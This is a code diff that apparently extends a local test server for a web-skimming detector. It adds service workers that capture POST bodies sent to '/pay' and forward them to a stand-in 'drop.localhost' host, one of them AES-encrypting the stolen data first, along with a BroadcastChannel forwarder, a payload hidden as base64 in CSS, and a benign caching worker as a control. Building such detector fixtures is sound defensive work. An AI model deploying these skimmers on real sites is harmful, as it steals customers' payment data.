@@ -18,6 +18,29 @@ WORKER = """self.addEventListener('fetch', function (e) {
 	if (e.request.method !== 'POST' || new URL(e.request.url).pathname !== '/pay') return;
 	e.request.clone().text().then(function (t) { fetch('http://drop.localhost:' + location.port + '/c', {method: 'POST', mode: 'no-cors', body: t}); });
 });"""
+CIPHER_WORKER = """self.addEventListener('install', function () { self.skipWaiting(); });
+self.addEventListener('activate', function (e) { e.waitUntil(clients.claim()); });
+self.addEventListener('fetch', function (e) {
+	if (e.request.method !== 'POST' || new URL(e.request.url).pathname !== '/pay') return;
+	e.waitUntil(e.request.clone().text().then(function (t) {
+		return crypto.subtle.generateKey({name: 'AES-GCM', length: 256}, true, ['encrypt']).then(function (k) {
+			return crypto.subtle.encrypt({name: 'AES-GCM', iv: crypto.getRandomValues(new Uint8Array(12))}, k, new TextEncoder().encode(t));
+		});
+	}).then(function (b) { return fetch('http://drop.localhost:' + location.port + '/c', {method: 'POST', mode: 'no-cors', body: b}); }));
+});"""
+CACHE_WORKER = """self.addEventListener('install', function (e) { self.skipWaiting(); });
+self.addEventListener('activate', function (e) { e.waitUntil(clients.claim()); });
+self.addEventListener('fetch', function (e) {
+	if (e.request.method !== 'GET' || !/^(image|style|font)$/.test(e.request.destination)) return;
+	e.respondWith(caches.open('v1').then(function (c) {
+		return c.match(e.request).then(function (hit) {
+			return hit || fetch(e.request).then(function (r) { c.put(e.request, r.clone()); return r; });
+		});
+	}));
+});"""
+HELPER = """<!doctype html><title>Help</title><link rel=icon href="data:,"><script>
+new BroadcastChannel('t70').onmessage = function (e) { fetch('http://drop.localhost:' + location.port + '/c', {method: 'POST', mode: 'no-cors', body: e.data}); };
+</script>"""
 VENDOR = """window.formAssist = {version: 1, format: function (v) { return v.replace(/\\D/g, ''); }};
 document.addEventListener('input', function (e) { if (e.target.name === 'zip') e.target.value = formAssist.format(e.target.value); });
 """
@@ -99,6 +122,14 @@ class Handler(http.server.BaseHTTPRequestHandler):
             self.answer("{}", "application/json")
         elif path == "/sw-s12.js":
             self.answer(own_drop(WORKER, "s12"), "text/javascript")
+        elif path == "/sw-s58.js":
+            self.answer(own_drop(CIPHER_WORKER, "s58"), "text/javascript")
+        elif path == "/sw-b20.js":
+            self.answer(CACHE_WORKER, "text/javascript")
+        elif path == "/helper-s70":
+            self.answer(own_drop(HELPER, "s70"))
+        elif path == "/style-s65.css":
+            self.answer(':root { --cfg: "%s"; }' % base64.b64encode(own_drop(SUBMIT, "s65").encode()).decode(), "text/css")
         elif path == "/logo-s32.svg":
             self.answer('<svg xmlns="http://www.w3.org/2000/svg"><desc>%s</desc></svg>' %
                         own_drop(SUBMIT, "s32").replace("&", "&amp;").replace("<", "&lt;"), "image/svg+xml")
